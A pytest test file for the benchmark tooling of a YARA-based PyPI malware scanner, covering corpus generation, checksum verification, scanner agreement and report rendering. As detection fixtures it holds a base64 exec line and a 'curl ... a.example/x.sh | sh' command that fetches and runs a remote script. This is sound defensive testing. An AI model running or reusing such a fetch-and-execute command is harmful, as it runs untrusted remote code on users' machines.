"""Fast checks of the benchmark tooling (bench/), without network: the corpus generator is deterministic; the
real corpus list parses, cached files are verified (a file that differs is refused, by name) and missing
ones are downloaded with the project's PyPI client (from a fake index on 127.0.0.1); the pure-Python
baseline, the reference-style extracting loop and the engine agree on a tiny corpus, so the benchmark
compares like with like; the summary table, the targets and the markdown report compute what they claim;
the fake mainframe works from a child process."""

from __future__ import annotations

import hashlib
import json
import re
import zipfile
from pathlib import Path

import pytest

pytest.importorskip("yara_x", reason="the yara-x Python package (extra 'test') is not installed")

from bench import realcorpus, rulesets, summary, synthetic
from bench.baseline import BaselineScanner, compile_rules, disagreements, members, outcome_of
from bench.reference import ExtractingScanner
from tests.fakes.pypi import FakeFile
from tests.fakes.pypi import sdist as build_sdist
from tests.fakes.pypi import wheel as build_wheel

TINY = synthetic.CorpusSpec(seed=7, scale=0.004, releases=3)


def _digests(root: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted((root / "dists").iterdir())}


@pytest.fixture(scope="module")
def tiny_corpus(tmp_path_factory: pytest.TempPathFactory) -> synthetic.Corpus:
    return synthetic.generate(tmp_path_factory.mktemp("tiny"), TINY)


def test_generator_is_deterministic(tiny_corpus: synthetic.Corpus, tmp_path: Path) -> None:
    again = synthetic.generate(tmp_path / "again", TINY)
    assert _digests(again.root) == _digests(tiny_corpus.root)
    assert (again.root / "manifest.json").read_text() == (tiny_corpus.root / "manifest.json").read_text()
    other = synthetic.generate(tmp_path / "other", synthetic.CorpusSpec(seed=8, scale=0.004, releases=3))
    assert _digests(other.root) != _digests(tiny_corpus.root)


def test_corpus_shape(tiny_corpus: synthetic.Corpus) -> None:
    names = [d.filename for d in tiny_corpus.distributions]
    assert any(n.endswith(".tar.gz") for n in names) and any(n.endswith(".whl") for n in names)
    for d in tiny_corpus.distributions:
        files = list(members(d.path.read_bytes(), d.filename))
        assert len(files) == d.files
        assert sum(len(b) for _, b in files) == d.inflated
        if d.filename.endswith(".tar.gz"):
            top = d.filename.removesuffix(".tar.gz") + "/"
            assert all(p.startswith(top) for p, _ in files)
    # The package's modules are byte-identical in a release's sdist and wheel.
    sdist, wheel = tiny_corpus.distributions[0], tiny_corpus.distributions[1]
    top = sdist.filename.removesuffix(".tar.gz") + "/"
    in_sdist = {p.removeprefix(top): b for p, b in members(sdist.path.read_bytes(), sdist.filename)}
    shared = [p for p, b in members(wheel.path.read_bytes(), wheel.filename) if in_sdist.get(p) == b]
    assert len(shared) >= 2
    # Release 0 always carries markers, so the benchmark rules produce findings.
    assert tiny_corpus.distributions[0].markers


def test_ensure_corpus_reuses_the_cache(tmp_path: Path) -> None:
    spec = synthetic.CorpusSpec(seed=3, scale=0.002, releases=2)
    first = synthetic.ensure_corpus(spec, tmp_path)
    mtimes = {d.filename: d.path.stat().st_mtime_ns for d in first.distributions}
    second = synthetic.ensure_corpus(spec, tmp_path)
    assert second.root == first.root
    assert {d.filename: d.path.stat().st_mtime_ns for d in second.distributions} == mtimes


def test_rule_sets_compile_with_yara_x() -> None:
    assert len(list(compile_rules(rulesets.small_sources()))) > 50
    light, _ = rulesets.get("light")
    assert len(list(compile_rules(light))) >= 6


def test_baseline_applies_filetype_and_weights(tmp_path: Path) -> None:
    scanner = BaselineScanner(rulesets.small_sources())
    out = scanner.scan_bytes(b'x = 1\nexec(base64.b64decode("aGk="))\n', "evil.py")
    assert {"DFH_BENCH_exec_b64", "DFH_BENCH_b64decode_anywhere"} <= out.rules_matched
    out = scanner.scan_bytes(b'x = 1\nexec(base64.b64decode("aGk="))\n', "notes.txt")
    assert "DFH_BENCH_exec_b64" not in out.rules_matched  # filetype ".py"
    assert "DFH_BENCH_b64decode_anywhere" in out.rules_matched and out.score == 0  # weight 0
    out = scanner.scan_bytes(b'os.system("curl -s https://a.example/x.sh | sh")\n', "setup.py")
    assert out.rules_matched >= {"DFH_BENCH_curl_sh", "DFH_BENCH_string_weight"}
    assert out.score == 4  # DFH_BENCH_string_weight's weight is the string "7": counts 0


def test_common_rules_match_common_code() -> None:
    common, note = rulesets.get("common")
    assert "noisy" in note
    scanner = BaselineScanner(common)
    out = scanner.scan_bytes(b"import subprocess\nsubprocess.run(['ls'])\n", "tool.py")
    assert "bench_noisy_subprocess_import" in out.rules_matched


def test_baseline_as_a_command_writes_one_outcome_per_path(tmp_path: Path) -> None:
    from bench.baseline import main

    rules = tmp_path / "rules"
    rules.mkdir()
    for origin, text in rulesets.small_sources().items():
        (rules / origin.replace("/", "-")).write_text(text)
    evil, plain = tmp_path / "evil.zip", tmp_path / "plain.zip"
    for path, body in ((evil, 'exec(base64.b64decode("aGk="))\n'), (plain, "x = 1\n")):
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("pkg/setup.py", body)
    output = tmp_path / "report.json"
    main(["--rules", str(rules), "--output", str(output), str(evil), str(plain)])
    report = json.loads(output.read_text())
    assert [r["path"] for r in report] == [str(evil), str(plain)]
    assert "DFH_BENCH_exec_b64" in report[0]["rules_matched"] and report[0]["score"] > 0
    assert report[1] == {"path": str(plain), "score": 0, "rules_matched": []}


def test_baseline_and_engine_agree(tiny_corpus: synthetic.Corpus) -> None:
    from dragonfly_hybrid import Rules, Scanner

    sources = rulesets.small_sources()
    paths = [str(d.path) for d in tiny_corpus.distributions]
    names = [d.filename for d in tiny_corpus.distributions]
    expected = BaselineScanner(sources).scan_many(paths)
    results = Scanner(Rules.compile(sources), threads=2).scan_many(
        [(n, p, None) for n, p in zip(names, paths, strict=True)]
    )
    assert [r.name for r in results] == names
    assert all(r.complete for r in results), [(r.name, [i.kind for i in r.issues]) for r in results]
    assert disagreements(names, expected, [outcome_of(r) for r in results]) == []
    assert any(o.score > 0 for o in expected)  # the comparison covers real findings


# --- the real corpus: list parsing, cache verification, download with the project's client ------------------
def _corpus_files() -> dict[str, tuple[str, str, bytes]]:
    """file name -> (project, version, bytes) of two tiny distributions."""
    sdist_name, sdist_bytes = build_sdist("tinypkg", "1.0", {"tinypkg/__init__.py": b"x = 1\n"})
    wheel_name, wheel_bytes = build_wheel(
        "otherpkg", "2.0", {"otherpkg/__init__.py": b"y = 2\n", "otherpkg/data.txt": b"hello\n"}
    )
    return {sdist_name: ("tinypkg", "1.0", sdist_bytes), wheel_name: ("otherpkg", "2.0", wheel_bytes)}


def _corpus_list(files: dict[str, tuple[str, str, bytes]], path: Path) -> Path:
    lines = ["# name==version\tfile\tsha256\tsize_bytes"]
    for filename, (project, version, data) in files.items():
        lines.append(f"{project}=={version}\t{filename}\t{hashlib.sha256(data).hexdigest()}\t{len(data)}")
    path.write_text("\n".join(lines) + "\n")
    return path


def test_corpus_list_parsing() -> None:
    entries = realcorpus.parse_corpus_list(realcorpus.CORPUS_LIST.read_text(), "bench/corpus.txt")
    assert len(entries) == 15 and len({e.filename for e in entries}) == 15
    assert all(len(e.sha256) == 64 and e.size > 0 and e.name and e.version for e in entries)
    flask = next(e for e in entries if e.name == "flask")
    assert (flask.version, flask.filename) == ("3.0.3", "flask-3.0.3.tar.gz")
    good = f"a==1\ta-1.tar.gz\t{'0' * 64}\t10"
    for bad, message in [
        ("a==1\ta-1.tar.gz\t10", "line 1: expected 4 tab-separated fields"),
        (f"a-1\ta-1.tar.gz\t{'0' * 64}\t10", "expected name==version"),
        (f"a==1\ta-1.tar.gz\t{'0' * 63}\t10", "a-1.tar.gz: invalid sha256"),
        (f"a==1\ta-1.tar.gz\t{'0' * 64}\tten", "a-1.tar.gz: invalid size"),
        (f"{good}\n{good}", "line 2: a-1.tar.gz is listed twice"),
        ("# only a comment\n", "no entries"),
    ]:
        with pytest.raises(realcorpus.CorpusError, match=message):
            realcorpus.parse_corpus_list(bad)


def test_real_corpus_reuses_verified_cache_without_network(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = _corpus_files()
    cache = tmp_path / "cache"
    cache.mkdir()
    for filename, (_, _, data) in files.items():
        (cache / filename).write_bytes(data)
    listing = _corpus_list(files, tmp_path / "corpus.txt")

    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("a verified cache must not need the index")

    monkeypatch.setattr(realcorpus, "PyPIClient", no_network)
    corpus = realcorpus.ensure_real_corpus(listing, cache)
    assert [(d.release, d.version, d.filename) for d in corpus.distributions] == [
        (project, version, filename) for filename, (project, version, _) in files.items()
    ]
    for d in corpus.distributions:
        walked = list(members(d.path.read_bytes(), d.filename))
        assert (d.files, d.inflated) == (len(walked), sum(len(b) for _, b in walked))
    assert corpus.file_count == 2 + 4 and "2 distributions, 6 files" in corpus.describe()
    # The counts are kept in the manifest: the next load does not walk the archives again.
    assert (cache / realcorpus.MANIFEST).exists()
    monkeypatch.setattr(realcorpus, "walk_counts", no_network)
    again = realcorpus.ensure_real_corpus(listing, cache)
    assert [(d.files, d.inflated) for d in again.distributions] == [
        (d.files, d.inflated) for d in corpus.distributions
    ]


def test_real_corpus_rejects_a_cached_file_that_differs(tmp_path: Path) -> None:
    files = _corpus_files()
    listing = _corpus_list(files, tmp_path / "corpus.txt")
    cache = tmp_path / "cache"
    cache.mkdir()
    (sdist_name, (_, _, sdist_bytes)), (wheel_name, (_, _, wheel_bytes)) = files.items()
    (cache / sdist_name).write_bytes(sdist_bytes)
    tampered = bytearray(wheel_bytes)
    tampered[-30] ^= 0xFF  # same size, other content
    (cache / wheel_name).write_bytes(bytes(tampered))
    with pytest.raises(
        realcorpus.CorpusError, match=rf"{re.escape(wheel_name)} .* has sha256 [0-9a-f]{{64}}"
    ):
        realcorpus.ensure_real_corpus(listing, cache)
    (cache / wheel_name).write_bytes(wheel_bytes + b"\0")
    with pytest.raises(
        realcorpus.CorpusError, match=rf"{re.escape(wheel_name)} .* has {len(wheel_bytes) + 1} bytes"
    ):
        realcorpus.ensure_real_corpus(listing, cache)


def test_real_corpus_downloads_what_is_missing(tmp_path: Path, fake_index) -> None:
    from dragonfly_hybrid.pypi.index import PyPIClient

    files = _corpus_files()
    for filename, (project, _, data) in files.items():
        fake_index.add(project, (filename, data))
    listing = _corpus_list(files, tmp_path / "corpus.txt")
    cache = tmp_path / "cache"
    sdist_name, (project, version, data) = next(iter(files.items()))
    other = tmp_path / "other.txt"
    with PyPIClient(fake_index.url, retries=1) as client:
        corpus = realcorpus.ensure_real_corpus(listing, cache, client=client)
        assert sorted(p.name for p in cache.iterdir()) == sorted([*files, realcorpus.MANIFEST])
        for d in corpus.distributions:
            assert d.path.read_bytes() == files[d.filename][2]
        # A pin that differs from the digest the index publishes is refused before downloading.
        other.write_text(f"{project}=={version}\t{sdist_name}\t{'0' * 64}\t{len(data)}\n")
        with pytest.raises(realcorpus.CorpusError) as err:
            realcorpus.ensure_real_corpus(other, tmp_path / "cache2", client=client)
        assert sdist_name in str(err.value) and "pins " + "0" * 64 in str(err.value)
        assert not (tmp_path / "cache2").exists()
        # Downloaded bytes that are not the pinned ones are refused, and nothing is left in the cache.
        fake_index.add("nodigest", FakeFile("nodigest-1.0.tar.gz", data, listed_sha256=""))
        other.write_text(f"nodigest==1.0\tnodigest-1.0.tar.gz\t{'0' * 64}\t{len(data)}\n")
        with pytest.raises(realcorpus.CorpusError, match=r"nodigest-1\.0\.tar\.gz .* has sha256"):
            realcorpus.ensure_real_corpus(other, tmp_path / "cache3", client=client)
        assert not list((tmp_path / "cache3").iterdir())
        # A file the release does not have is named in the error.
        other.write_text(f"{project}=={version}\tnot-there-1.0.tar.gz\t{'0' * 64}\t10\n")
        with pytest.raises(realcorpus.CorpusError, match=r"not-there-1\.0\.tar\.gz .* is not among"):
            realcorpus.ensure_real_corpus(other, tmp_path / "cache4", client=client)


# --- reference-extract --------------------------------------------------------------------------------------
def test_reference_extract_agrees_with_baseline(tiny_corpus: synthetic.Corpus, tmp_path: Path) -> None:
    sources = rulesets.small_sources()
    paths = [str(d.path) for d in tiny_corpus.distributions]
    names = [d.filename for d in tiny_corpus.distributions]
    expected = BaselineScanner(sources).scan_many(paths)
    extracted = ExtractingScanner(sources, temp_dir=str(tmp_path)).scan_many(paths)
    assert disagreements(names, expected, extracted) == []
    assert [o.files_scanned for o in extracted] == [o.files_scanned for o in expected]
    assert [o.bytes_scanned for o in extracted] == [o.bytes_scanned for o in expected]
    assert any(o.score > 0 for o in extracted)
    assert not list(tmp_path.iterdir())  # every temporary directory is gone
    # A plain file is scanned where it is, with its own name as the path for `filetype`.
    plain = tmp_path / "evil.py"
    plain.write_bytes(b'exec(base64.b64decode("aGk="))\n')
    assert "DFH_BENCH_exec_b64" in ExtractingScanner(sources).scan_path(plain).rules_matched


# --- summary tables and the report --------------------------------------------------------------------------
def _measurement(
    variant: str, kind: str, median: float, workers: int = 1, **more: object
) -> summary.Measurement:
    base: dict[str, object] = dict(
        group="light",
        variant=variant,
        kind=kind,
        median=median,
        rounds=3,
        workers=workers,
        cores=2,
        corpus="real",
        distributions=15,
        releases=15,
        files=20_000,
        inflated=200_000_000,
        compressed=80_000_000,
        rules=38,
        ruleset="bundled",
        largest_download=16_000_000,
        largest_member=14_000_000,
        distinct_files=19_000,
        distinct_bytes=180_000_000,
    )
    base.update(more)
    return summary.Measurement(**base)  # type: ignore[arg-type]


def _light_rows() -> list[summary.Measurement]:
    return [
        _measurement("baseline-1proc", summary.BASELINE, 10.0, rss_mb=60.0),
        _measurement("baseline-2proc", summary.POOL, 6.0, 2),
        _measurement("reference-extract", summary.REFERENCE, 20.0),
        _measurement("rust-1thread", summary.RUST, 2.0, rss_mb=100.0, fixed_overhead_mb=80.0),
        _measurement("rust-2threads", summary.RUST, 1.0, 2, rss_mb=150.0, fixed_overhead_mb=80.0),
        _measurement("limit-inflate", summary.LIMIT_INFLATE, 0.6),
        _measurement("limit-scan", summary.LIMIT_SCAN, 1.2),
    ]


def test_summary_rows_and_targets() -> None:
    (light,) = summary.summarize(_light_rows())
    rows = {r.variant: r for r in light.rows}
    assert list(rows)[-3:] == ["limit (inflate/cores)", "limit (scan/cores)", "limit (inflate+scan)/cores"]
    assert rows["limit (scan/cores)"].seconds == pytest.approx(0.6)
    assert rows["limit (inflate+scan)/cores"].seconds == pytest.approx(0.9)
    n = rows["rust-2threads"]
    assert (n.vs_1proc, n.vs_pool) == (pytest.approx(10.0), pytest.approx(6.0))
    assert n.efficiency == pytest.approx(1.0)  # 2.0 / (2 x 1.0)
    assert n.vs_limit == pytest.approx(1.0 / 0.6)
    assert n.mb_per_s == pytest.approx(200.0) and n.files_per_s == pytest.approx(20_000)
    assert n.releases_per_min == pytest.approx(15 * 60)
    assert n.bound_mb == pytest.approx(16 + 2 * 14 + 80)
    assert rows["rust-1thread"].bound_mb == pytest.approx(16 + 14 + 80)
    assert rows["baseline-1proc"].bound_mb is None and rows["baseline-1proc"].efficiency is None
    verdicts = {t.text: t.met for t in light.targets}
    assert verdicts == {
        "rust-2threads >= 8x baseline-1proc": True,
        "rust-2threads >= 4x baseline-2proc": True,
        "parallel efficiency 1 -> 2 threads >= 90%": True,
        "peak RSS of rust-1thread within the bound": True,
        "peak RSS of rust-2threads within the bound": False,
    }
    heavy_rows = [_measurement(m.variant, m.kind, m.median, m.workers, group="heavy") for m in _light_rows()]
    (heavy,) = summary.summarize(heavy_rows)
    limit = next(t for t in heavy.targets if "limit" in t.text)
    assert (limit.met, limit.value) == (False, "1.67x")
    assert all(t.met is None for t in heavy.targets if "RSS" in t.text)  # not measured: not judged
    text = "\n".join(summary.text_lines([light, heavy]))
    assert "target: rust-2threads >= 8x baseline-1proc: met (10.00x)" in text
    assert "NOT met (1.67x)" in text


def test_report_renders_markdown_from_benchmark_json(tmp_path: Path) -> None:
    from dataclasses import asdict

    from bench import report

    node = summary.NodeMeasurement("reference-loop", 6.0, 3, 15, 15, 200_000_000, 80_000_000, "light rules")
    fast = summary.NodeMeasurement("node-2threads", 1.0, 3, 15, 15, 200_000_000, 80_000_000, "light rules")
    data = {
        "datetime": "2026-01-01T00:00:00",
        "machine_info": {"dfh": {"cpu": "Test CPU", "cpus": 2, "usable_cpus": 2, "python": "3.11"}},
        "benchmarks": [{"extra_info": {"row": asdict(m)}} for m in _light_rows()]
        + [{"extra_info": {"node_row": asdict(r)}} for r in (node, fast)]
        + [{"extra_info": {"unrelated": 1}}],
    }
    path = tmp_path / "out.json"
    path.write_text(json.dumps(data))
    text = report.render(report.load(path))
    assert "Test CPU, 2 CPUs" in text
    assert (
        "| `rust-2threads` | 1.000 | 10.00x | 6.00x | 200.0 | 20,000 | 900.0 | 100% | 1.67x | 150 | 124 |"
        in text
    )
    assert "| `limit (scan/cores)` | 0.600 |" in text
    assert "| `node-2threads` | 1.000 | 900.0 | 200.0 | 6.00x |" in text
    assert "node-2threads >= 5x releases/min of reference-loop: **met** (6.00x)" in text
    doc = tmp_path / "BENCHMARKS.md"
    doc.write_text(f"# head\n{report.BEGIN}\nold numbers\n{report.END}\ntail\n")
    assert report.main([str(path), "--update", str(doc)]) == 0
    updated = doc.read_text()
    assert updated.startswith("# head\n") and updated.endswith(f"{report.END}\ntail\n")
    assert "old numbers" not in updated and "| `rust-2threads` | 1.000 |" in updated
    assert report.main([str(tmp_path / "missing.json")]) == 1


def test_a_paired_node_row_is_judged_by_the_median_of_its_pairs_ratios(tmp_path: Path) -> None:
    from dataclasses import asdict

    from bench import report

    def node(variant: str, median: float, ratios: tuple[float, ...] = ()) -> summary.NodeMeasurement:
        return summary.NodeMeasurement(
            variant, median, 3, 15, 15, 200_000_000, 80_000_000, "light rules", engine_ratios=ratios
        )

    # The medians alone say 1.0 / 1.2 = 0.83x; the pairs say 0.91x (median of 0.88, 0.91, 0.95).
    rows = [
        node("reference-loop", 6.0),
        node("engine-only", 1.0),
        node("node-2threads-paired", 1.2, (0.95, 0.88, 0.91)),
    ]
    data = {"benchmarks": [{"extra_info": {"node_row": asdict(r)}} for r in rows]}
    path = tmp_path / "out.json"
    path.write_text(json.dumps(data))
    loaded = report.rows(report.load(path))[1]
    assert loaded == rows, "the pairs' ratios survive the JSON file"
    text = report.render(report.load(path))
    assert "| `node-2threads-paired` | 1.200 | 750.0 | 166.7 | 5.00x | 0.91x |" in text
    assert "node-2threads-paired >= 5x" not in text, "judged against the engine only"
    assert (
        "node-2threads-paired >= 90% of engine-only's releases/min (median of 3 paired rounds' ratios, "
        "0.88-0.95x): **met** (0.91x)" in text
    )
    # Just under the line: the same pairs with their median at 0.8999.
    rows[2] = node("node-2threads-paired", 1.2, (0.95, 0.88, 0.8999))
    _, targets = summary.node_table(rows)
    assert [t.met for t in targets] == [False]
    # A paired row is judged without an engine-only row too (its pairs carry the engine's times).
    _, targets = summary.node_table(rows[2:])
    # shown with the digits that put it under the line, not rounded up to it
    assert [t.value for t in targets] == ["0.8999x"] and targets[0].met is False


def test_report_renders_the_engine_column_and_the_end_to_end_table(tmp_path: Path) -> None:
    from dataclasses import asdict

    from bench import report

    def node(variant: str, median: float) -> summary.NodeMeasurement:
        return summary.NodeMeasurement(variant, median, 3, 15, 15, 200_000_000, 80_000_000, "light rules")

    def e2e(variant: str, median: float) -> summary.E2EMeasurement:
        return summary.E2EMeasurement(variant, median, 5, 15, 200_000_000, "common rules", "what", "real")

    rows = [
        node("reference-loop", 6.0),
        node("engine-only", 1.0),
        node("node-2threads", 1.05),
        node("node-2threads-warm-rules", 1.11),  # 90.1% of the engine's releases/min: the issue's target
        node("node-slow", 1.12),  # 89.3%
        node("engine-while-downloading", 1.04),
    ]
    e2e_rows = [
        e2e("cli-table", 1.05), e2e("cli-json", 1.0), e2e("cli-sarif", 1.2), e2e("baseline-1proc", 3.0),
        e2e("baseline-pool", 2.5), e2e("startup-python", 0.05), e2e("startup-version", 0.08),
        e2e("startup-scan-file", 0.3), e2e("startup-node-once", 0.26),
    ]  # fmt: skip
    data = {
        "benchmarks": [{"extra_info": {"node_row": asdict(r)}} for r in rows]
        + [{"extra_info": {"e2e_row": asdict(r)}} for r in e2e_rows]
    }
    path = tmp_path / "out.json"
    path.write_text(json.dumps(data))
    text = report.render(report.load(path))
    assert "| `node-2threads` | 1.050 | 857.1 | 190.5 | 5.71x | 0.95x |" in text
    share = ">= 90% of engine-only's releases/min (its time / the node's)"
    assert f"node-2threads {share}: **met** (0.95x)" in text
    assert f"node-2threads-warm-rules {share}: **met** (0.90x)" in text
    assert f"node-slow {share}: **NOT met** (0.89x)" in text
    assert "engine-only >= 5x" not in text, "the engine row is no node: no target of its own"
    assert "| `engine-while-downloading` | 1.040 |" in text
    assert "engine-while-downloading >=" not in text, "nor is the engine while downloading"
    assert "### end to end" in text and "15 distributions, 200.0 MB inflated, common rules, 5 rounds" in text
    assert "| `cli-json` | 1.000 | 3.00x | 2.50x | what |" in text
    assert "| `startup-version` | 0.080 | - | - | what |" in text
    assert "cli-json >= 4x baseline-1proc: **NOT met** (3.00x)" in text
    assert "cli-json >= 2x baseline-pool: **met** (2.50x)" in text
    assert "cli-table within 10% of cli-json (its time / cli-table's): **met** (0.95x)" in text
    assert "cli-sarif within 10% of cli-json (its time / cli-sarif's): **NOT met** (0.83x)" in text
    assert "startup-version under 0.2 s: **met** (0.080 s)" in text
    assert "startup-scan-file under 0.2 s: **NOT met** (0.300 s)" in text
    assert "startup-python under" not in text
    assert "| `startup-node-once` | 0.260 | - | - | what |" in text
    assert "startup-node-once under" not in text, "a node's start is reported, with no target"
    doc = tmp_path / "BENCHMARKS.md"
    markers = ("<!-- bench-report:speed:begin -->", "<!-- bench-report:speed:end -->")
    doc.write_text(f"{report.BEGIN}\nfull run\n{report.END}\n{markers[0]}\nold\n{markers[1]}\n")
    assert report.main([str(path), "--update", str(doc), "--section", "speed"]) == 0
    updated = doc.read_text()
    assert "full run" in updated and "old" not in updated and "### end to end" in updated.split(markers[0])[1]


# --- the fake mainframe in a child process, peak RSS --------------------------------------------------------
def test_fake_mainframe_in_a_child_process(tiny_corpus: synthetic.Corpus) -> None:
    import httpx

    from bench.remote_fake import FakeProcess, ReleaseSpec

    d = tiny_corpus.distributions[0]
    releases = [ReleaseSpec(d.release, d.version, ((d.filename, str(d.path)),))]
    with FakeProcess(releases, "bench-rules-1", {"r.yar": "rule r { condition: false }"}) as process:
        for _ in range(2):  # a fresh fake per round
            fake = process.new_round()
            settings = fake.node_settings(threads=1)
            assert settings["base_url"] == fake.url and settings["threads"] == 1
            with httpx.Client(base_url=fake.url) as http:
                headers = {
                    "CF-Access-Client-Id": fake.client_id,
                    "CF-Access-Client-Secret": fake.client_secret,
                }
                rules = http.get("/rules", headers=headers).json()
                assert rules["hash"] == "bench-rules-1"
                (job,) = http.post("/jobs", params={"batch": 5}, headers=headers).json()
                assert (job["name"], job["version"]) == (d.release, d.version)
                archive = http.get(job["distributions"][0])
                assert archive.content == d.path.read_bytes()
                body = {
                    "name": d.release,
                    "version": d.version,
                    "score": 0,
                    "inspector_url": None,
                    "rules_matched": [],
                    "commit": "bench-rules-1",
                    "attempt": job["attempt"],
                    "assignment_id": job["assignment_id"],
                }
                assert http.put("/package", json=body, headers=headers).status_code == 200
            assert [r["name"] for r in fake.results()] == [d.release]
            fake.close()


def test_peak_rss_reads_this_process() -> None:
    from bench.rss import peak_rss_mb

    before = peak_rss_mb()
    block = bytearray(64_000_000)
    for i in range(0, len(block), 4096):
        block[i] = 1
    assert peak_rss_mb() >= before and peak_rss_mb() > 64
